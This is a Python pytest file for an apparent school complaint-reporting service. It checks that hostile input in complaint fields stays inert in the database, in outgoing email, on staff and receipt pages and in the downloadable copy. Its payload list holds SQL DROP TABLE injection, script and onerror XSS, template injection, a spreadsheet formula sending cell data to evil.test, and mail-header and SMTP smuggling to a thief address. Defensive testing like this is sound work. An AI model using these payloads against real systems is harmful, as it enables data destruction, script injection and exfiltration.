"""What tries to be more than words is kept as words: in the store, in mail, on the pages and in the files to take."""

import email
import email.policy
import json
from collections.abc import Callable
from html import unescape
from pathlib import Path

import pytest
import sqlalchemy as sa
from fakes import FakeReceipts
from staff_site import Browser

from assistant.adapters.mail import FolderMail
from assistant.adapters.sql import tables
from assistant.core.records import Account, Draft
from assistant.core.references import format_receipt
from assistant.core.routing import About, Kind
from assistant.core.staff import StaffAccount, StaffRole
from assistant.services.deliver_notices import deliver_notices
from assistant.services.give_record import give_record
from assistant.wiring import Wiring

Enter = Callable[..., tuple[Browser, StaffAccount]]
DIGITS = "1234567890123456"
EVIL = {
    "SQL": "x'); DROP TABLE records; --",
    "HTML": '"><script>alert(1)</script><img src=x onerror=alert(1)>',
    "template": "{{ 7 * 7 }} {text} %(text)s ${text}",
    "formula": '=HYPERLINK("https://evil.test/?"&A1)',
    "mail header": "x\r\nBcc: thief@evil.test\r\nSubject: other\r\n\r\nbody",
    "mail end": "x\r\n.\r\nMAIL FROM:<thief@evil.test>",
    "log line": "x\n2026-01-01 00:00:00 ERROR all is lost",
}


@pytest.mark.parametrize("field", ["text", "contact", "place"])
@pytest.mark.parametrize("name", EVIL)
def test_what_is_evil_in_a_field_stays_words_everywhere(
    parts: Wiring, browser: Browser, enter: Enter, tmp_path: Path, field: str, name: str
) -> None:
    evil = EVIL[name]
    account = Account(**{"text": "what happened", "contact": "kim@mail.test", "place": "a group"} | {field: evil})
    parts.receipts = FakeReceipts(DIGITS)
    draft = Draft(Kind.COMPLAINT, About.STAFF, account)
    given = give_record(parts.store, parts.receipts, parts.clock, draft=draft, request_id="r1")
    with parts.store.transaction() as records:
        assert records.account(given.record.id) == account

    mail, contacts = FolderMail(tmp_path / "mail"), parts.directory.contacts
    sent = deliver_notices(
        parts.store,
        mail,
        parts.clock,
        contacts,
        sender="assistant@school.test",
        public_url="https://school.test",
        attach_complaint=True,
    )
    (file,) = (tmp_path / "mail").glob("*.eml")
    message = email.message_from_bytes(file.read_bytes(), policy=email.policy.default)
    head = [(key, message[key]) for key in ("To", "Cc", "Bcc", "From", "Subject")]
    assert (sent, head) == (
        1,
        [
            ("To", contacts[given.readers[0]].email),
            ("Cc", None),
            ("Bcc", None),
            ("From", "assistant@school.test"),
            ("Subject", "A formal complaint has been sent to you"),
        ],
    )
    assert [len(message.get_all(key, [])) for key in ("To", "From", "Subject", "Message-ID")] == [1, 1, 1, 1]

    head_of_school, _ = enter(StaffRole.HEADTEACHER)
    browser.post("/receipt", data={"receipt": format_receipt(DIGITS)})
    for page in (head_of_school.get(f"/staff/records/{given.record.id}"), browser.get("/receipt/copy")):
        assert page.status_code == 200
        assert " ".join(evil.split()) in " ".join(unescape(page.text).split())
        assert "<script>alert" not in page.text
        assert "onerror=alert(1)>" not in page.text
    copied = json.loads(browser.get("/receipt/copy/file").text)
    assert (copied["what_happened"], copied["contact"], copied["where"]) == (
        account.text,
        account.contact,
        account.place,
    )
    with parts.engine.begin() as connection:
        assert connection.execute(sa.select(sa.func.count()).select_from(tables.records)).scalar_one() == 1
